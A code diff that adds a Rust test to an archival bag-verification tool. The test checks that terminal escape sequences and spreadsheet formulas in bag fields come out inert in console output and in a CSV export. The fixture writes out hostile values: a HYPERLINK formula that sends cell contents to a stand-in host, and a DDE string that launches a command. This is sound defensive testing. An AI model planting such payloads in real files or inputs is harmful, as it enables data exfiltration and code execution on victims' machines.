@@ -564,3 +564,87 @@ fn hostile_tag_files_are_reported_bounded() {
     );
     assert!(text.len() < 20_000, "the 10 MB line must not be echoed");
 }
+
+#[test]
+fn hostile_fields_reach_neither_the_terminal_nor_a_spreadsheet_as_code() {
+    // A plain bag from outside whose fields and names carry terminal escape sequences
+    // and spreadsheet formulas: verify prints them inert, the ledger keeps them as they
+    // are, and the 移送記録簿 CSV (opened in Excel) holds them as text.
+    let dir = tempfile::tempdir().unwrap();
+    let bag = dir.path().join("bag");
+    fs::create_dir_all(bag.join("data")).unwrap();
+    fs::write(
+        bag.join("bagit.txt"),
+        "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n",
+    )
+    .unwrap();
+    let name = "r\x1b[31mred\x07.csv";
+    fs::write(bag.join("data").join(name), "1\n").unwrap();
+    let info = "Source-Organization: =HYPERLINK(\"http://x/?\"&A1,\"\x1b]0;pwned\x07\")\n\
+                External-Identifier: +cmd|' /C calc'!A0\x1b[2J\n\
+                Bag-Group-Identifier: @SUM(1)\x1b[1m\n\
+                Tracking-Number: -2+3\x1b[5m\n";
+    fs::write(bag.join("bag-info.txt"), info).unwrap();
+    let sha = |p: &Path| {
+        use sha2::Digest;
+        let h = sha2::Sha256::digest(fs::read(p).unwrap());
+        h.iter().map(|b| format!("{b:02x}")).collect::<String>()
+    };
+    fs::write(
+        bag.join("manifest-sha256.txt"),
+        format!("{}  data/{name}\n", sha(&bag.join("data").join(name))),
+    )
+    .unwrap();
+    let tags: String = ["bagit.txt", "bag-info.txt", "manifest-sha256.txt"]
+        .iter()
+        .map(|t| format!("{}  {t}\n", sha(&bag.join(t))))
+        .collect();
+    fs::write(bag.join("tagmanifest-sha256.txt"), tags).unwrap();
+    // Damaged too, so the problem list names the file.
+    fs::write(bag.join("data").join(name), "2\n").unwrap();
+
+    let ledger = dir.path().join("ledger.sqlite");
+    let inert = |o: &std::process::Output, what: &str| {
+        for (stream, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
+            assert!(
+                !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
+                "{what} {stream} carries control characters: {:?}",
+                String::from_utf8_lossy(bytes)
+            );
+        }
+    };
+    let v = run(isou().env("ISOU_LEDGER", &ledger).arg("verify").arg(&bag));
+    assert_eq!(v.status.code(), Some(1), "{}", stderr(&v));
+    let text = String::from_utf8_lossy(&v.stdout).into_owned();
+    assert!(text.contains("red"), "the damaged file is named: {text}");
+    assert!(text.contains("HYPERLINK"), "{text}");
+    inert(&v, "verify");
+    for args in [&["record", "list"][..], &["record", "show", "@SUM(1)\x1b[1m"][..]] {
+        let o = run(isou().env("ISOU_LEDGER", &ledger).args(args));
+        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
+        inert(&o, args[1]);
+    }
+    let o = run(isou()
+        .env("ISOU_LEDGER", &ledger)
+        .args(["record", "export", "--format", "csv"]));
+    assert!(o.status.success(), "{}", stderr(&o));
+    let mut r = csv::Reader::from_reader(&o.stdout[3..]);
+    let rows: Vec<Vec<String>> = r
+        .records()
+        .map(|x| x.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    assert_eq!(rows.len(), 1);
+    let cells: Vec<&String> = rows[0].iter().filter(|c| !c.is_empty()).collect();
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell Excel would evaluate: {c:?}"
+        );
+    }
+    for field in ["'=HYPERLINK", "'-2+3", "'@SUM"] {
+        assert!(
+            cells.iter().any(|c| c.starts_with(field)),
+            "{field} kept as text: {cells:?}"
+        );
+    }
+}
